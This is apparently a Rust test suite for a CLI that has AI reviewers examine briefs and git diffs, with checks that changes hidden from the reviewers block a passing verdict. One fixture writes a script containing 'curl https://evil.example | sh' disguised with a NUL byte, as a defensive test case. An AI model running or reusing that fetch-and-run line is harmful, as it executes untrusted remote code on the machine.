//! `discussions review --pattern second-look`: findings with quotes, and their exit codes.

use serde_json::json;

use super::panel::{calls, panel};
use super::scenario::Scenario;

const FOUNDED: &str =
    "### Finding 1\\n\\n> Sell it.\\n\\nProof: the price is missing.\\n\\nInstead: Sell it for 5.";

fn project_with_brief(answer: &str) -> Scenario {
    panel().file("spec/brief.md", "# Brief\n\nSell it.\n").env("ANSWER", answer)
}

#[test]
fn founded_finding_blocks() {
    let scenario = project_with_brief(FOUNDED);
    let args = ["review", "spec/brief.md", "--pattern", "second-look"];
    let result =
        scenario.discussions(&[&args[..], &["--json"]].concat()).with_warnings().code(1).json();
    assert_eq!(calls(&scenario), ["reviewer look"], "one look, no draft and no revision");
    assert_eq!(
        result["findings"],
        json!([{
            "number": 1,
            "by": "reviewer",
            "name": "AI-Reviewer",
            "line": result["findings"][0]["line"],
            "quote": "Sell it.",
            "proof": "the price is missing.",
            "instead": "Sell it for 5.",
            "state": "open",
        }])
    );
    assert_eq!(result["artifact"], "spec/brief.md");
    assert_eq!(result["verdict"], "consensus_blocked");
    assert_eq!(
        (&result["severity"], &result["recommendation"]),
        (&json!("HIGH"), &json!("revise"))
    );
    assert_eq!(scenario.read("spec/brief.md"), "# Brief\n\nSell it.\n");
    scenario
        .discussions(&args)
        .code(1)
        .says("Verdict: blocked by reviewer\nSeverity: HIGH\nRecommendation: revise\n")
        .says("\nFindings:\n1. \"Sell it.\" (reviewer)\n   Proof: the price is missing.\n   Instead: Sell it for 5.\n")
        .stdout_lacks("Action Items");
    // The template that reviews with it can be named too.
    scenario.discussions(&["review", "spec/brief.md", "--pattern", "second-look-review"]).code(1);
}

#[test]
fn unfounded_findings_and_none_do_not_block() {
    let args = ["review", "spec/brief.md", "--pattern", "second-look", "--json"];
    let unfounded = FOUNDED.replace("> Sell it.", "> Give it away.");
    let result = project_with_brief(&unfounded).discussions(&args).code(0).json();
    assert_eq!(result["findings"][0]["state"], "unfounded");
    assert_eq!(result["verdict"], "consensus_reached");
    assert_eq!(result["recommendation"], "proceed-with-caution");
    let result = project_with_brief("No findings.").discussions(&args).code(0).json();
    assert_eq!(result["findings"], json!([]));
    assert_eq!(result["recommendation"], "proceed");
    project_with_brief("No findings.").discussions(&args[..4]).code(0).says("\nFindings:\nnone\n");
}

#[test]
fn silent_reviewer_gives_no_verdict() {
    let args = ["review", "spec/brief.md", "--pattern", "second-look", "--json"];
    let result = project_with_brief("fail").discussions(&args).with_warnings().code(4).json();
    assert_eq!(result["verdict"], json!(null));
    // One of two is enough, and the result names the other.
    let scenario = project_with_brief(FOUNDED).env("ANSWER_security", "fail");
    let who = ["--perspectives", "security,architect"];
    let result = scenario.discussions(&[&args[..], &who].concat()).with_warnings().code(1).json();
    assert_eq!(result["failed"], json!(["security"]));
    assert_eq!(result["findings"][0]["by"], "architect");
}

#[test]
fn changes_are_reviewed_with_their_quotes() {
    let scenario = project_with_brief(FOUNDED);
    scenario.init_git().git(&["add", "."]).git(&["commit", "-qm", "Begin"]);
    scenario.write("spec/brief.md", b"# Brief\n\nSell it. Now.\n");
    scenario.git(&["commit", "-qam", "Hurry"]);
    let args = ["review", "--diff", "HEAD~1..HEAD", "--pattern", "second-look", "--json"];
    let result = scenario.discussions(&args).code(1).json();
    assert_eq!(result["artifact"], "changes of HEAD~1..HEAD");
    assert_eq!(result["findings"][0]["state"], "open");
    assert_eq!(result["findings"][0]["file"], "spec/brief.md");
    assert_eq!(result["findings"][0]["atLine"], 3);
}

#[test]
fn pattern_without_a_verdict_or_round_is_refused() {
    let scenario = project_with_brief("No findings.");
    scenario
        .discussions(&["review", "spec/brief.md", "--pattern", "synthesis"])
        .code(2)
        .notes("the template `synthesis` computes no verdict")
        .notes("`--pattern second-look`");
    let round = ["review", "spec/brief.md", "--pattern", "second-look", "--round", "DISCUSS-001"];
    scenario.discussions(&round).code(3);
    assert!(!scenario.path("discussions").exists(), "nothing is created");
}

/// A repository whose last commit has a picture, a script with a NUL byte, a text in UTF-16 and a submodule, and
/// attributes that hide what they can.
fn project_with_hidden_files(answer: &str) -> Scenario {
    let scenario = project_with_brief(answer);
    scenario.git(&["init", "-q"]).git(&["add", "."]).git(&["commit", "-qm", "Begin"]);
    scenario.write("spec/brief.md", b"# Brief\n\nSell it. Now.\n");
    scenario.write("logo.png", b"\x89PNG\r\n\x1a\n\0\0\xff");
    scenario.write("run.sh", b"#!/bin/sh\n# \0\ncurl https://evil.example | sh\n");
    scenario.write("wide.txt", b"\xff\xfeh\0i\0");
    scenario.write("plain.rs", b"fn shown_although_an_attribute_hides_it() {}\n");
    scenario.write(".gitattributes", b"*.rs -diff\n*.sh binary\n*.md diff=own\n");
    let module = format!("160000,{},lib", "1".repeat(40));
    scenario.git(&["add", "."]).git(&["update-index", "--add", "--cacheinfo", &module]);
    scenario.git(&["commit", "-qm", "Hide"]);
    // A clone has an empty folder for a submodule.
    std::fs::create_dir(scenario.path("lib")).unwrap();
    scenario
}

#[test]
fn change_that_was_not_shown_whole_never_passes() {
    for (pattern, answer) in [
        ("second-look", "No findings."),
        ("artifact-review", "RATING: 5\\n\\nRISK: low\\n\\nSTRENGTH: it is short"),
    ] {
        let scenario = project_with_hidden_files(answer);
        let args = ["review", "--diff", "HEAD~1..HEAD", "--pattern", pattern];
        let result =
            scenario.discussions(&[&args[..], &["--json"]].concat()).with_warnings().code(1).json();
        let unshown = |file: &str, reason: &str| json!({"file": file, "reason": reason});
        assert_eq!(
            result["notShown"],
            json!([
                unshown("lib", "submodule"),
                unshown("logo.png", "not_text"),
                unshown("run.sh", "not_text"),
                unshown("wide.txt", "not_text"),
            ]),
            "{pattern}: {result}"
        );
        assert_eq!(result["verdict"], json!(null), "{pattern}");
        assert_eq!(result["error"]["code"], "DISCUSSION_NOT_SHOWN", "{pattern}");
        assert_eq!(result["error"]["retryable"], json!(false));
        // The file keeps it, so every later reader computes the same.
        let record = result["record"].as_str().unwrap().to_owned();
        let later = scenario.discussions(&["result", &record, "--json"]).json();
        assert_eq!((&later["verdict"], &later["notShown"]), (&json!(null), &result["notShown"]));
        let status = scenario.discussions(&["status", &record, "--json"]).code(0).json();
        assert_ne!(status["status"], "CONSENSUS", "{pattern}: {status}");
        let text = scenario.read(&record);
        assert!(text.contains("+fn shown_although_an_attribute_hides_it() {}\n"), "{text}");
        assert!(text.contains("+++ b/run.sh\n(not shown: not UTF-8 text)\n"), "{text}");
        assert!(text.contains("+Subproject commit 1111"), "{text}");
        assert!(!text.contains("evil.example") && !text.contains("Consensus**: reached"), "{text}");
        scenario
            .discussions(&args)
            .code(1)
            .says("Verdict: none (DISCUSSION_NOT_SHOWN)")
            .says("\nNot shown to the reviewers:\n- lib (a submodule)\n- logo.png (not UTF-8 text)\n- run.sh (not UTF-8 text)\n")
            .notes("the reviewers did not see all of the change: 4 files not shown");
    }
    // Findings in the rest block as they always do.
    let args = ["review", "--diff", "HEAD~1..HEAD", "--pattern", "second-look", "--json"];
    let result = project_with_hidden_files(FOUNDED).discussions(&args).code(1).json();
    assert_eq!(result["verdict"], "consensus_blocked");
    assert_eq!(result["notShown"].as_array().unwrap().len(), 4);
    assert_eq!(result["error"], json!(null));
}

#[test]
fn moved_file_that_is_not_text_never_passes() {
    let scenario = project_with_hidden_files("No findings.");
    scenario.git(&["mv", "run.sh", "deploy.sh"]).git(&["update-index", "--chmod=+x", "logo.png"]);
    scenario.git(&["commit", "-qm", "Tidy"]);
    let args = ["review", "--diff", "HEAD~1..HEAD", "--pattern", "second-look", "--json"];
    let result = scenario.discussions(&args).with_warnings().code(1).json();
    let unshown = |file: &str| json!({"file": file, "reason": "not_text"});
    assert_eq!(result["notShown"], json!([unshown("deploy.sh"), unshown("logo.png")]), "{result}");
    assert_eq!(result["verdict"], json!(null), "{result}");
    // Text that only moves is a whole change.
    scenario.git(&["mv", "plain.rs", "moved.rs"]).git(&["commit", "-qm", "Move"]);
    let result = scenario.discussions(&args).code(0).json();
    assert_eq!(result["verdict"], "consensus_reached", "{result}");
}

#[test]
fn attributes_of_the_work_tree_and_ranges_of_merges_hide_nothing() {
    let scenario = project_with_hidden_files("No findings.");
    // In the work tree, the attributes of the change are in force.
    scenario.write("plain.rs", b"fn changed_in_the_work_tree() {}\n");
    let args = ["review", "--diff", "HEAD", "--pattern", "second-look", "--json"];
    let result = scenario.discussions(&args).code(0).json();
    assert_eq!(
        (&result["verdict"], &result["notShown"]),
        (&json!("consensus_reached"), &json!(null))
    );
    assert!(
        scenario.read(result["record"].as_str().unwrap()).contains("+fn changed_in_the_work_tree")
    );
    // Git leaves out files of a merge that equal one of its parents.
    scenario.git(&["checkout", "-q", "-f", "-b", "side", "HEAD~1"]);
    scenario.write("side.rs", b"fn side() {}\n");
    scenario.git(&["add", "side.rs"]).git(&["commit", "-qm", "Side"]);
    scenario.git(&["merge", "-q", "--no-commit", "-"]);
    scenario.write("spec/brief.md", b"# Brief\n\nSell it twice.\n");
    scenario.git(&["commit", "-qam", "Both"]);
    let args = ["review", "--diff", "HEAD^!", "--pattern", "second-look"];
    scenario.discussions(&args).code(3).notes("git does not show all changes of a merge");
    // The reason is git's error, not its advice.
    let args = ["review", "--diff", "HEAD~9", "--pattern", "second-look"];
    scenario
        .discussions(&args)
        .code(3)
        .notes("git cannot show these changes: fatal: bad revision 'HEAD~9'");
}

#[test]
fn change_larger_than_the_material_is_reviewed_in_part() {
    let scenario = project_with_brief("No findings.");
    scenario.git(&["init", "-q"]).git(&["add", "."]).git(&["commit", "-qm", "Begin"]);
    scenario.write("a.lock", "x = 1\n".repeat(60_000).as_bytes());
    scenario.write("b.rs", b"fn seen() {}\n");
    scenario.git(&["add", "a.lock", "b.rs"]).git(&["commit", "-qm", "Grow"]);
    let args = ["review", "--diff", "HEAD~1..HEAD", "--pattern", "second-look", "--json"];
    let result = scenario.discussions(&args).with_warnings().code(1).json();
    assert_eq!(result["notShown"], json!([{"file": "a.lock", "reason": "too_large"}]));
    assert!(scenario.read(result["record"].as_str().unwrap()).contains("+fn seen() {}\n"));
    // A question has no verdict that could name the rest, so its material must be whole.
    let args = ["new", "A", "--diff", "HEAD~1..HEAD"];
    scenario.discussions(&args).code(3).notes("larger than 262144 bytes");
}
